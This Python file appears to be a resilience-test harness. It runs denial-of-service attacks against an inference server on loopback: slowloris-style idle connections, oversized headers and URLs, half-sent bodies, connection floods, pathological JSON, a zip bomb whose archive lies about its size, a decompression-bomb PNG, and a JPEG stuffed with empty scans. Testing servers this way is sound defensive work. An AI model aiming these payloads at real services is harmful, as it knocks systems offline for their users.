"""Attacks on a server, each a coroutine that runs until its time is up, bounded in number, on loopback.

Answers are ignored. A connection that the server closes is opened again.
"""

from __future__ import annotations

import asyncio
import io
import struct
import sys
import time
import zlib
from collections.abc import Callable, Coroutine
from contextlib import suppress
from typing import Final

import numpy as np
from PIL import Image

Attack = Callable[[int, float], Coroutine[None, None, None]]
"""Called with the server's port and the time.monotonic() to end at."""

MIB: Final = 1 << 20
HOST: Final = "127.0.0.1"
PAUSE_S: Final = 0.02  # before the next connection: a refused attacker must not become a load generator
PATIENCE_S: Final = 30.0


def post(route: str, content_type: str, length: int) -> bytes:
    """Return the head of a request with a body."""
    return (
        f"POST {route} HTTP/1.1\r\nHost: a\r\nContent-Type: {content_type}\r\nContent-Length: {length}\r\n\r\n".encode()
    )


async def one(port: int, parts: list[bytes], end: float, hold: bool = False) -> None:
    """Open a connection, send, and read until it is closed or a read times out; hold it open if asked."""
    with suppress(OSError, TimeoutError):
        async with asyncio.timeout(max(0.0, min(PATIENCE_S, end - time.monotonic()))):
            reader, writer = await asyncio.open_connection(HOST, port)
            try:
                for part in parts:
                    writer.write(part)
                    await writer.drain()
                if hold:
                    await asyncio.sleep(end - time.monotonic())
                while await reader.read(MIB):
                    pass
            finally:
                writer.transport.abort()  # what was not sent yet is not waited for


async def again(port: int, end: float, count: int, make: Callable[[], list[bytes]], hold: bool = False) -> None:
    """Run this many clients, each of which starts again when it is done."""

    async def client() -> None:
        while time.monotonic() < end:
            await one(port, make(), end, hold)
            await asyncio.sleep(PAUSE_S)

    await asyncio.gather(*(client() for _ in range(count)))


def once_closed(head: bytes) -> bytes:
    """Return the same request with `Connection: close`."""
    return head.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n", 1)


def bodies(count: int, route: str, content_type: str, make: Callable[[], bytes]) -> Attack:
    """Run this many clients that send one body repeatedly."""

    async def attack(port: int, end: float) -> None:
        body = make()
        request = [once_closed(post(route, content_type, len(body))), body]
        await again(port, end, count, lambda: request)

    return attack


async def idle(port: int, end: float) -> None:
    """Open 300 connections that begin a request and send no more."""
    await again(port, end, 300, lambda: [b"GET /health/live HTTP/1.1\r\nHost: a\r\nX-Slow: "], hold=True)


async def headers(port: int, end: float) -> None:
    """Open two connections with 100 MB of headers each."""
    line = b"X-Filler: " + b"a" * 1000 + b"\r\n"
    block = line * 1000
    await again(port, end, 2, lambda: [b"GET /health/live HTTP/1.1\r\nHost: a\r\n", *([block] * 100)])


async def target(port: int, end: float) -> None:
    """Open two connections with a request line of 100 MB each."""
    await again(port, end, 2, lambda: [b"GET /", *([b"a" * MIB] * 100)])


async def half_bodies(port: int, end: float) -> None:
    """Open 40 connections that announce 60 MB, send all but the last bytes, and wait."""
    parts = [post("/infer?model=digits", "application/x-npy", 60 * MIB), *([bytes(MIB)] * 59)]
    await again(port, end, 40, lambda: parts, hold=True)


async def crowd(port: int, end: float) -> None:
    """Open 200 connections that send the next request as soon as the last one is answered."""
    body = npy(np.zeros((8, 1, 16, 16), np.float32))
    request = [once_closed(post("/infer?model=digits", "application/x-npy", len(body))), body]
    await again(port, end, 200, lambda: request)


async def shapes(port: int, end: float) -> None:
    """Send 300 requests, each with an image of a new size, four at a time."""
    sizes = iter([(24 + n % 20, 24 + n // 20) for n in range(300)])

    async def client() -> None:
        for width, height in sizes:
            if time.monotonic() > end:
                return
            body = png(width, height)
            await one(port, [once_closed(post("/infer?model=superres", "image/png", len(body))), body], end)

    await asyncio.gather(*(client() for _ in range(4)))


async def new_sizes(port: int, end: float) -> None:
    """Send 40 images of new sizes at once, and again: sizes met twice are compiled."""
    pictures = [png(24 + n % 8, 24 + n // 8) for n in range(40)]
    requests = [[once_closed(post("/infer?model=superres", "image/png", len(each))), each] for each in pictures]
    while time.monotonic() < end:
        await asyncio.gather(*(one(port, request, end) for request in requests))
        await asyncio.sleep(0.5)


def npy(array: np.ndarray) -> bytes:
    """Return an array as an `.npy` file."""
    buffer = io.BytesIO()
    np.save(buffer, array)
    return buffer.getvalue()


def png(width: int, height: int) -> bytes:
    """Return a black image, which compresses to almost nothing."""
    buffer = io.BytesIO()
    Image.new("L", (width, height)).save(buffer, "PNG")
    return buffer.getvalue()


def small_but_wide() -> bytes:
    """Return a valid archive of zeros for a network that takes any size."""
    buffer = io.BytesIO()
    np.savez_compressed(buffer, in0=np.zeros((1, 3, 2300, 2300), np.float32))
    return buffer.getvalue()


def quotes() -> bytes:
    """Return a string of 64 kB of escaped quotes."""
    return b'{"inputs": "' + b'\\"' * 32768 + b'"}'


def empty_lists() -> bytes:
    """Return 16 MB of empty lists."""
    return b'{"inputs": [' + b"[]," * (16 * MIB // 3) + b"[]]}"


def lying_archive() -> bytes:
    """Return an `.npz` whose one member announces a small tensor and unpacks to a gigabyte."""
    head = npy(np.zeros((1, 1, 16, 16), np.float32))
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(head) + b"".join(packer.compress(bytes(MIB)) for _ in range(1024)) + packer.flush()
    name, crc = b"in0.npy", zlib.crc32(head)
    fields = (20, 0, 8, 0, 0, crc, len(packed), len(head), len(name), 0)
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields) + name + packed
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *fields, 0, 0, 0, 0, 0) + name
    return local + central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local), 0)


def endless_scans() -> bytes:
    """Return a progressive JPEG with 26,000 empty scans of higher coefficients."""
    buffer = io.BytesIO()
    Image.new("L", (1600, 1600)).save(buffer, "JPEG", progressive=True, quality=50)
    data = buffer.getvalue()
    starts = [at for at in range(len(data) - 1) if data[at : at + 2] == b"\xff\xda"]
    second = data[starts[1] : starts[2]] if len(starts) > 2 else data[starts[1] : -2]
    scan = second[: second.rfind(b"\xff\xc4")] if b"\xff\xc4" in second else second
    return data[: starts[1]] + scan * (2 * MIB // len(scan)) + data[starts[1] :]


ATTACKS: Final[dict[str, Attack]] = {
    "200 connections": crowd,
    "300 half-sent headers": idle,
    "100 MB of headers": headers,
    "100 MB of URL": target,
    "40 bodies of 60 MB, half sent": half_bodies,
    "64 kB of escaped quotes": bodies(4, "/infer?model=digits", "application/json", quotes),
    "16 MB of empty lists": bodies(4, "/infer?model=digits", "application/json", empty_lists),
    "archive that lies about its size": bodies(4, "/infer?model=digits", "application/x-npz", lying_archive),
    "picture of 50 million pixels": bodies(4, "/infer?model=digits", "image/png", lambda: png(7071, 7071)),
    "62 kB that unpack to 2300 x 2300": bodies(1, "/infer?model=superres", "application/x-npz", small_but_wide),
    "26,000 scans": bodies(4, "/infer?model=shapes", "image/jpeg", endless_scans),
    "300 new sizes": shapes,
    "40 new sizes at once": new_sizes,
}

if __name__ == "__main__":
    attack, port, end = sys.argv[1:]
    asyncio.run(ATTACKS[attack](int(port), float(end)))
